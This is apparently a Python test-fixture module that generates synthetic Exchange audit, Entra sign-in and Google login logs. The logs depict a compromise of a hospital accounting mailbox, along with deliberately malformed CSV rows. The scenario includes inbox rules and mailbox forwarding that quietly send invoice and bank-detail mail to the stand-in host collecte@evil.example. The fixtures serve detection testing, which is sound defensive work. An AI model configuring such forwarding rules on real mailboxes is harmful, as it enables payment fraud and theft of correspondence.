"""Audit and sign-in logs, made in each real format, with the dirt of real ones. All addresses are reserved ones."""

import csv
import io
import json
import uuid

OWNER = "compta@hopital-troisrivieres.example"
STRANGE = "203.0.113.66"
USUAL = "192.0.2.10"


def event(operation, *, at="2026-03-10T10:00:00", ip=USUAL, user=OWNER, number=None, **more):
    identifier = str(uuid.UUID(int=number)) if number else str(uuid.uuid5(uuid.NAMESPACE_URL, json.dumps([operation, at, ip, user, more], sort_keys=True, default=str)))
    return {"CreationTime": at, "Id": identifier, "Operation": operation, "UserId": user, "ClientIP": ip, "Workload": "Exchange", **more}


def parameters(**given):
    return [{"Name": name, "Value": value} for name, value in given.items()]


def attack() -> list[dict]:
    """A quiet week from the usual address, then one night from a strange one."""
    quiet = [
        event("UserLoggedIn", at=f"2026-03-0{day}T08:0{minute}:00", ip=f"{USUAL}:443{minute}", UserAgent="Outlook")
        for day in range(2, 9) for minute in range(3)
    ]
    night = [
        event("UserLoggedIn", at="2026-03-09T22:10:00", ip=f"{STRANGE}:51022", SessionId="s-1"),
        event("New-InboxRule", at="2026-03-09T22:14:09", ip=f"{STRANGE}:51023", ObjectId=f"{OWNER}\\.", Parameters=parameters(
            Name=".", SubjectOrBodyContainsWords="facture;virement;RIB", ForwardTo="collecte@evil.example", MarkAsRead="True",
            DeleteMessage="True", StopProcessingRules="True")),
        event("Set-Mailbox", at="2026-03-09T22:15:00", ip="[2001:db8::66]:443", SessionId="s-1", Parameters=parameters(
            Identity=OWNER, ForwardingSmtpAddress="smtp:collecte@evil.example", DeliverToMailboxAndForward="True")),
        event("MailItemsAccessed", at="2026-03-09T22:20:00", ip="::ffff:" + STRANGE, OperationProperties=parameters(MailAccessType="Sync", IsThrottled="False"),
              Folders=[{"Path": "\\Boîte de réception"}]),
        event("MailItemsAccessed", at="2026-03-09T22:21:00", ip=STRANGE, OperationProperties=parameters(MailAccessType="Bind", IsThrottled="True"),
              Folders=[{"Path": "\\Paie", "FolderItems": [{"InternetMessageId": "<a@x>"}, {"InternetMessageId": "<b@x>"}]}]),
        event("Consent to application.", at="2026-03-09T22:25:00", ip=STRANGE, ObjectId="PerfectData"),
        event("Send", at="2026-03-10T01:00:00", ip=STRANGE, Item={"Subject": "Changement de RIB", "InternetMessageId": "<s@x>"}),
        event("HardDelete", at="2026-03-10T01:05:00", ip=STRANGE, AffectedItems=[{"Subject": "x"}]),
        event("Change user password.", at="2026-03-10T09:00:00", ip="192.0.2.99", user="admin@hopital-troisrivieres.example"),
    ]
    return quiet + night


def alarming_rule(*, at: str, ip: str, name: str = ".") -> dict:
    """A rule that forwards everything about money outside."""
    return event("New-InboxRule", at=at, ip=ip, ObjectId=f"{OWNER}\\{name}", Parameters=parameters(
        Name=name, SubjectOrBodyContainsWords="facture;virement", ForwardTo="collecte@evil.example", MarkAsRead="True"))


def portal_csv(events, *, encoding="utf-8-sig", delimiter=",", preamble="") -> bytes:
    text = io.StringIO()
    writer = csv.writer(text, delimiter=delimiter)
    writer.writerow(["RecordId", "CreationDate", "RecordType", "Operation", "UserId", "AuditData"])
    for item in events:
        data = item if isinstance(item, str) else json.dumps(item, ensure_ascii=False)
        plain = {} if isinstance(item, str) else item
        writer.writerow([plain.get("Id", ""), plain.get("CreationTime", ""), "1", plain.get("Operation", ""), plain.get("UserId", ""), data])
    return (preamble + text.getvalue()).encode(encoding)


def powershell_csv(events) -> bytes:
    text = io.StringIO()
    text.write("#TYPE Deserialized.Microsoft.Exchange.Data\r\n")
    writer = csv.writer(text, quoting=csv.QUOTE_ALL)
    writer.writerow(["RecordType", "CreationDate", "UserIds", "Operations", "AuditData", "ResultIndex", "ResultCount", "Identity", "IsValid", "ObjectState"])
    for number, item in enumerate(events):
        writer.writerow(["ExchangeAdmin", "3/10/2026 10:00:00 AM", item["UserId"], item["Operation"], json.dumps(item), number, len(events), item["Id"], "True", "Unchanged"])
    return text.getvalue().encode("utf-16")


def dirty_csv() -> bytes:
    """The attack, each record three times, with empty cells, broken JSON, a cut cell, short rows and a huge cell."""
    huge = event("MailItemsAccessed", number=77, at="2026-03-09T23:00:00", ip=STRANGE, OperationProperties=parameters(MailAccessType="Bind"),
                 Folders=[{"Path": "\\Tout", "FolderItems": [{"InternetMessageId": f"<{n}@x.example>"} for n in range(20_000)]}])
    cut = json.dumps(event("Send", number=78, at="2026-03-10T00:30:00", ip=STRANGE, Item={"Subject": "x" * 400}))[:-200]
    odd = ["", "not json", "{\"Operation\": \"Send\"}", "[1, 2]", "null", event("Send", number=79, at="yesterday"), event("Send", number=80, ip="<null>"), event("", number=81)]
    rows = portal_csv([*attack() * 3, huge, cut, *odd])
    return rows + b"only,three,cells\r\n" + b",,,,,\r\n" + b"\x00\x00,\xff\xfe,,,,\"{\"\r\n"


def sign_ins_json() -> bytes:
    return json.dumps({"value": [
        {"id": "1", "createdDateTime": "2026-03-09T22:10:00.1234567Z", "userPrincipalName": OWNER, "ipAddress": STRANGE,
         "clientAppUsed": "IMAP4", "location": {"city": "Ailleurs", "countryOrRegion": "ZZ"}, "status": {"errorCode": 0}},
        {"id": "2", "createdDateTime": "2026-03-09T22:09:00Z", "userPrincipalName": OWNER, "ipAddress": STRANGE,
         "clientAppUsed": "IMAP4", "status": {"errorCode": 50126}},
    ]}).encode()


def sign_ins_csv() -> bytes:
    return (
        "Date (UTC),Request ID,User,Username,Application,IP address,Location,Status,Sign-in error code,Client app\r\n"
        f"2026-03-09T22:10:00Z,r1,Compta,{OWNER},Office 365,{STRANGE},\"Ailleurs, ZZ\",Success,,Browser\r\n"
        f"2026-03-09T22:11:00Z,r2,Compta,{OWNER},Office 365,{STRANGE},\"Ailleurs, ZZ\",Failure,50126,Browser\r\n"
    ).encode()


def google_json() -> bytes:
    return json.dumps({"items": [
        {"id": {"time": "2026-03-09T22:10:00.000Z", "uniqueQualifier": "-77"}, "actor": {"email": OWNER}, "ipAddress": STRANGE,
         "events": [{"type": "login", "name": "login_success", "parameters": [{"name": "is_suspicious", "boolValue": True}]}]},
    ]}).encode()
